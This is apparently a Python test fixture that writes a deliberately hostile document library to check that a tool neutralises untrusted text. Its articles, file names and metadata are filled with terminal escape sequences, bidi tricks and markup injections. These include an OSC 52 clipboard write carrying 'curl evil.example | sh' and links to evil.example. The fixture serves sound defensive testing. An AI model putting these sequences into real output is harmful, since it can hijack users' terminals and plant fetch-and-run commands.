"""A library made to break out: what a terminal would obey, in every place where a library holds text."""

from __future__ import annotations

import base64
import json
from pathlib import Path

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
CLICK = "[@click=app.quit]press here[/]"

SEQUENCES = (
    "\x1b[2J\x1b[31m",
    "\x1b[?1049l\x1b[6n\x1bc",
    f"\x1b]52;c;{CLIPBOARD}\x07",
    "\x1b]0;PWNED\x07",
    "\x1b]8;;http://evil.example\x1b\\evil\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gevil\x1b\\",
    "\x1b^evil\x1b\\",
    "\x9b31m\x9d0;PWNED\x9c\x90evil\x9c",
    "\x05\x07\x08\x0e\x7f",
    "\u202egnp.exe\u202c \u2066in\u2069 \u200fmark",
    "zero\u200bwidth\u2060join\ufeff",
    "\U000e0041\U000e0042\U000e007f",
    f"{CLICK} [bold red]not bold[/] [link=http://evil.example]link[/link] \\[x]",
)
# As far as a file name may have it.
CLICK_NAME = CLICK.removesuffix("[/]")
PAYLOAD = " ".join(SEQUENCES)
# Text of every sequence, as it may be shown: without what a terminal obeys, nothing of it does harm.
HARMLESS = (f"]52;c;{CLIPBOARD}", "]0;PWNED", "[2J", "[31m", "P+q544e", CLICK, "[bold red]not bold[/]")


def hostile_library(folder: Path, strings: list[str]) -> Path:
    """Write the library, `strings` among the text of one of its articles, and return its folder."""
    folder.mkdir()
    (folder / "library.toml").write_text(f"name = {json.dumps('Hostile ' + PAYLOAD)}\n")
    for number, other in enumerate(("first", "second"), 1):
        (folder / f"{number}-{other}.md").write_bytes(_article(other))
    (folder / "3-strings.md").write_text(
        "---\ntitle: Strings\noutlet: Naughty\n---\n\n" + "\n\n".join(strings), "utf-8", "surrogatepass"
    )
    for name in (f"4\n\x1b]0;PWNED\x07\x9b31m{CLICK_NAME}\u202egnp.md", "5\udc9b[2J.md"):
        (folder / name).write_bytes(b"Hostile words in a file with a hostile name.\n")
    _unreadable(folder)
    return folder


def _unreadable(folder: Path) -> None:
    """Write files that cannot be read: errors that quote a value, a bad file with a bad name."""
    value = _yaml(f"{CLICK}\x1b]0;PWNED\x07\x9b31m\u202e")
    (folder / "6-day.md").write_text(f"---\npublished: {value}\n---\n\nWords.\n", "utf-8")
    (folder / "7-kind.md").write_text(f"---\nkind: {value}\n---\n\nWords.\n", "utf-8")
    (folder / "11-bytes.md").write_bytes(b"Raw bytes: \x9b31m \x9d0;PWNED\x9c \xff end.\n")
    (folder / "8-yaml.md").write_text("---\ntitle: [\x1b]0;PWNED\x07\n---\n\nWords.\n", "utf-8")
    (folder / f"9-{CLICK_NAME}\x1b[2J\n\u202e\x9bname.md").write_text(
        f"---\nkind: {value}\n---\n\nW.\n", "utf-8"
    )
    (folder / "10-link\x1b]0;PWNED\x07.md").symlink_to("/nowhere/\x1b[2J")


def _yaml(text: str) -> str:
    """Return `text` as a YAML string in double quotes, in which escapes name what may not stand there."""
    plain = {char for char in text if char.isascii() and char.isprintable()} - set('"\\')
    return '"' + "".join(char if char in plain else f"\\U{ord(char):08x}" for char in text) + '"'


def _article(other: str) -> bytes:
    front = "\n".join(
        (
            f"title: {_yaml('Hostile title ' + PAYLOAD)}",
            f"outlet: {_yaml(f'{CLICK} {other} Outlet ' + SEQUENCES[2] + SEQUENCES[8])}",
            f"authors: [{_yaml('Author ' + SEQUENCES[3] + SEQUENCES[10])}, {_yaml(CLICK)}]",
            f"published_evidence: {_yaml('Evidence ' + SEQUENCES[2] + SEQUENCES[8] + CLICK)}",
            f"url: {_yaml('http://evil.example/' + SEQUENCES[3])}",
            f"original: {_yaml('Original ' + SEQUENCES[2] + CLICK)}",
            "published: unknown",
        )
    )
    entities = "&#27;[2J &#x1b;]0;PWNED&#7; &#155;31m &#x202e;gnp &#xE0041;"
    blocks = [
        f"## Heading {PAYLOAD}",
        f"The hostile mayor Aldo Berling told the council that {PAYLOAD} would be 40 people of the harbour.",
        f"Only the {other} account says that {other} boats of Grenzhafen sank in the {other} storm.",
        f"> A quotation {PAYLOAD}",
        f"- A list {SEQUENCES[2]}\n- of {SEQUENCES[8]} things",
        f"[A link {SEQUENCES[3]}](http://evil.example/{SEQUENCES[2]}) and <http://evil.example/{SEQUENCES[8]}>.",
        f"Character references {entities} in the hostile text.",
        f"::: comment\nA comment {PAYLOAD}\n:::",
        f"::: credit\nA credit {SEQUENCES[2]}\n:::",
        "Mayor \x1b]0;PWNED\x07Aldo \x9bBerling of [bold]Grenzhafen[/] met Berling\u202e\u200b at noon.",
    ]
    body = "\n\n".join(blocks)
    return f"---\n{front}\n---\n\n{body}\n".encode()
